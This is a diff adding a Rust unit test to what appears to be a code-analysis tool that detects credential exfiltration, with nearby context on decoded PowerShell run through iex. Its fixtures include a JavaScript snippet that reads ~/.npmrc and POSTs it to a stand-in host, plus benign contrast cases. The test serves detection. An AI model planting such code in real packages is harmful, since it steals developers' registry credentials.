@@ -392,3 +392,22 @@ fn powershell_downloaded_text_run_by_invoke_expression() {
     let decoded = "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($blob))\niex $s\n";
     assert_eq!(facts(Lang::Powershell, decoded).dynamic_execs[0].what, "decoded");
 }
+
+#[test]
+fn javascript_request_objects_carry_what_is_written_to_them() {
+    // A credential file read, the request made from an options object, the body written later.
+    let code = "const fs = require('fs'); const os = require('os'); const https = require('https');\nconst cfg = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nconst options = { hostname: 'collect.example.invalid', path: '/in', method: 'POST' };\nconst req = https.request(options, (res) => res.resume());\nreq.write(JSON.stringify({ cfg }));\nreq.end();\n";
+    let f = facts(Lang::Javascript, code);
+    assert_eq!(f.flows.len(), 1, "{f:?}");
+    assert_eq!(f.flows[0].callee, "req.write");
+    assert_eq!(f.flows[0].host.as_deref(), Some("collect.example.invalid"));
+    assert!(worth_a_tree(code), "a credential file name alone makes the tree worth building");
+    // Writing something that is not a secret sends nothing worth a flow.
+    let benign = "const https = require('https');\nconst r = https.request({ host: 'api.example.invalid', method: 'POST' });\nr.write(JSON.stringify({ hello: 'world' }));\nr.end();\n";
+    let f = facts(Lang::Javascript, benign);
+    assert!(f.flows.is_empty(), "{f:?}");
+    assert!(f.endpoints.iter().any(|e| e.host == "api.example.invalid"), "the options host is an endpoint: {f:?}");
+    // A stream's write is not a request's.
+    let file = "const fs = require('fs');\nconst out = fs.createWriteStream('notes.txt');\nout.write(process.env.NOTES_TOKEN);\n";
+    assert!(facts(Lang::Javascript, file).flows.is_empty());
+}
